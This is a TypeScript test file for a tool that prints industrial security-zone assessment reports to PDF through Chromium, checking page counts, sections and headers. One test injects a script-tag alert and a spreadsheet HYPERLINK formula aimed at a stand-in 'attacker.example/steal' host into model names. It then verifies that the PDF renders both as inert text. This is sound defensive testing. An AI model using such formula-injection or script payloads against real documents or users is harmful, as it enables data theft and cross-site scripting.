import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { assessSystem, resolveSystem, type Assessment, type SystemModel } from '@zonewise/core';
import { buildReportDocument, loadAssessmentText } from '@zonewise/formats';
import { describe, expect, it } from 'vitest';
import {
  DEFAULT_CHROMIUM_PATH,
  PdfEngineMissingError,
  printHtmlToPdf,
  printReportDocumentPdf,
  renderReportPdf,
} from './print-pdf';

// PDFs are printed by Debian's Chromium; .ci/run installs it (and poppler-utils for pdftotext) when missing.
const hasChromium = existsSync(DEFAULT_CHROMIUM_PATH);
const GENERATED_AT = '2026-11-25T10:00:00Z';
const FORMULA = '=HYPERLINK("http://attacker.example/steal","Click me")';
const HOSTILE = ` <script>alert("x")</script> ${FORMULA} ${'y'.repeat(1_500)}`;

type Example = 'pharma-tablet-plant' | 'water-treatment';

const loadExample = (
  name: Example,
  edit: (file: Record<string, unknown>) => void = () => undefined,
): { readonly model: SystemModel; readonly assessment: Assessment } => {
  const path = fileURLToPath(new URL(`../../../../examples/${name}/assessment.yaml`, import.meta.url));
  const loaded = loadAssessmentText(readFileSync(path, 'utf8'), { fileName: `${name}/assessment.yaml` });
  if (!loaded.ok) throw new Error(`${name} does not load`);
  const file = structuredClone(loaded.file) as Record<string, unknown>;
  edit(file);
  const resolved = resolveSystem(file);
  if (!resolved.ok) throw new Error(`${name}: ${resolved.diagnostics.map((d) => d.code).join(', ')}`);
  return { model: resolved.value, assessment: assessSystem(resolved.value) };
};

/** The PDF's text as pdftotext lays it out, and its page count (form feeds separate pages). */
const pdfText = (pdf: Uint8Array): { readonly text: string; readonly pages: number } => {
  const folder = mkdtempSync(join(tmpdir(), 'zonewise-pdf-test-'));
  try {
    const file = join(folder, 'report.pdf');
    writeFileSync(file, pdf);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8', maxBuffer: 1 << 28 });
    return { text, pages: text.split('\f').filter((page) => page.trim() !== '').length };
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
};

/** Whitespace-insensitive text, so that wrapped lines still match. */
const flat = (value: string): string => value.replace(/\s+/g, '');

describe('printHtmlToPdf', () => {
  it('refuses with a stable code and the install command when Chromium is missing', async () => {
    const missing = printHtmlToPdf('<p>x</p>', {
      headerLeft: 'id',
      headerRight: 'classification',
      footerLeft: 'title',
      executablePath: '/nonexistent/chromium',
    });
    await expect(missing).rejects.toBeInstanceOf(PdfEngineMissingError);
    await expect(missing).rejects.toMatchObject({ code: 'pdf-engine-missing' });
    await expect(missing).rejects.toThrow(/apt-get install -y chromium/);
  });
});

describe.skipIf(!hasChromium)(`PDF reports (needs ${DEFAULT_CHROMIUM_PATH})`, () => {
  it('prints the pharma report on A4 with every section, the document id and page X of Y', async () => {
    const { model, assessment } = loadExample('pharma-tablet-plant');
    const document = buildReportDocument(model, assessment, { generatedAt: GENERATED_AT, document: 'full' });
    const pdf = await printReportDocumentPdf(document);
    expect(new TextDecoder().decode(pdf.subarray(0, 5))).toBe('%PDF-');
    const { text, pages } = pdfText(pdf);
    expect(pages).toBeGreaterThanOrEqual(120);
    expect(pages).toBeLessThanOrEqual(260);
    for (const section of document.sections) expect(flat(text)).toContain(flat(section.title));
    expect(text).toContain('NBP-LIN-OTS-RA-0042');
    expect(text).toContain(`Page 1 of ${pages}`);
    expect(text).toContain(`Page ${pages} of ${pages}`);
  }, 180_000);

  it('prints the CRS of the water example as its own, shorter document', async () => {
    const { model, assessment } = loadExample('water-treatment');
    const document = buildReportDocument(model, assessment, { generatedAt: GENERATED_AT, document: 'crs' });
    const { text, pages } = pdfText(await printReportDocumentPdf(document));
    expect(pages).toBeGreaterThanOrEqual(25);
    expect(pages).toBeLessThanOrEqual(120);
    for (const section of document.sections) expect(flat(text)).toContain(flat(section.title));
  }, 180_000);

  it('applies the report options, size limits included, when printing a model', async () => {
    const { model, assessment } = loadExample('water-treatment');
    const full = pdfText(
      await renderReportPdf(model, assessment, { generatedAt: GENERATED_AT, document: 'full' }),
    );
    const tight = pdfText(
      await renderReportPdf(model, assessment, {
        generatedAt: GENERATED_AT,
        document: 'full',
        limits: { tableRows: 3, subjectTableRows: 3, subjectSections: 1, topRows: 2 },
      }),
    );
    expect(tight.pages).toBeLessThan(full.pages);
    expect(tight.text).toContain(`Page ${tight.pages} of ${tight.pages}`);
  }, 240_000);

  it('prints hostile model text as inert text: no script, no link out', async () => {
    const { model, assessment } = loadExample('water-treatment', (file) => {
      const system = file['system'] as Record<string, unknown>;
      system['name'] = `${String(system['name'])}${HOSTILE}`;
      const zones = file['zones'] as Record<string, unknown>[];
      for (const zone of zones) zone['name'] = `${String(zone['name'])}${HOSTILE}`;
    });
    const document = buildReportDocument(model, assessment, { generatedAt: GENERATED_AT, document: 'crs' });
    const pdf = await printReportDocumentPdf(document);
    const { text } = pdfText(pdf);
    expect(flat(text)).toContain(flat('<script>alert("x")</script>'));
    expect(flat(text)).toContain(flat(FORMULA));
    const raw = new TextDecoder('latin1').decode(pdf);
    expect(raw).not.toMatch(/\/(JavaScript|JS|Launch)\b/);
    // The address is in the text (and the PDF title) but never a link target.
    expect(raw).not.toMatch(/\/URI\s*\(/);
  }, 180_000);
});
